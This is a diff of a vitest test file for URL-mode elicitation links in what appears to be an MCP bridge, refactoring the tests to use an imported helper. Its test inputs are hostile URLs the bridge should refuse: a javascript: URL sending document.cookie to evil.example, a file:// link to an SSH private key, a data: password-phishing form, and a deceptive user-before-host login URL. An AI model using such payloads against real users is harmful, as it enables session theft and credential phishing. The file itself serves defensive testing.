@@ -4,18 +4,11 @@
 // never reach the client and are refused to the server; a link to the server's https page, and one to a
 // page on this machine, are shown. Real bridge, recording server.
 import { afterAll, describe, expect, it } from "vitest";
-import { ElicitationSessions } from "../src/index.js";
+import { elicitationLink, ElicitationSessions } from "../src/index.js";
 
 const sessions = new ElicitationSessions();
 afterAll(async () => {
   await sessions.cleanup();
-});
-
-const link = (id: string, url: string) => ({
-  jsonrpc: "2.0",
-  id,
-  method: "elicitation/create",
-  params: { mode: "url", elicitationId: id, message: "Sign in to continue.", url },
 });
 
 describe("a URL-mode elicitation", () => {
@@ -23,13 +16,16 @@ describe("a URL-mode elicitation", () => {
     const refused = ["script", "file", "data", "plain-http", "user-before-host"];
     const outcome = await sessions.run(
       [
-        link("script", "javascript:fetch('https://evil.example/?c='+document.cookie)"),
-        link("file", "file:///home/me/.ssh/id_ed25519"),
-        link("data", "data:text/html,<form action=https://evil.example>Password: <input name=p></form>"),
-        link("plain-http", "http://login.bank.example/"),
-        link("user-before-host", "https://login.bank.example@evil.example/"),
-        link("https", "https://auth.example.com/connect?state=xyz"),
-        link("this-machine", "http://127.0.0.1:8765/callback"),
+        elicitationLink("script", "javascript:fetch('https://evil.example/?c='+document.cookie)"),
+        elicitationLink("file", "file:///home/me/.ssh/id_ed25519"),
+        elicitationLink(
+          "data",
+          "data:text/html,<form action=https://evil.example>Password: <input name=p></form>",
+        ),
+        elicitationLink("plain-http", "http://login.bank.example/"),
+        elicitationLink("user-before-host", "https://login.bank.example@evil.example/"),
+        elicitationLink("https", "https://auth.example.com/connect?state=xyz"),
+        elicitationLink("this-machine", "http://127.0.0.1:8765/callback"),
       ],
       refused,
     );
